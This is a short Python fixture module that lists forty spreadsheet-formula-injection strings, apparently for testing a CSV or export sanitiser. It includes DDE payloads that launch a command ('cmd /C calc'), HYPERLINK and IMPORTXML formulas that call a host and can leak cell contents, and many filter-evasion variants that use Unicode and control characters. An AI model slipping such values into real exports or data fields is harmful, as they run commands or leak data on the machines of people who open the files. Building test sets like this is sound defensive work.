"""Forty names that somebody might carry who wishes a spreadsheet ill, or nobody any harm at all."""

from __future__ import annotations

NAMES = (
    "=1+1", "=HYPERLINK(\"http://127.0.0.1/\",\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u2003=1+1", "\u3000@SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661+1", "\x00=1+1", "\x1b[31m=1", "{=1+1}", "'=1+1", '"=1+1"', '",=1+1,"',
    "=1+1\",\"=2+2", ";=1+1", "|=1+1", "a\r\n=1+1", "a,=1+1", "_x003D_1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "<r><f>1+1</f></r>", "\\=1+1",
    "=IMPORTXML(CONCAT(\"http://127.0.0.1/\",A1),\"//a\")", "O'Hara-=Smith", "می\u200cخواهم = ۲",
)  # fmt: skip

assert len(set(NAMES)) == 40
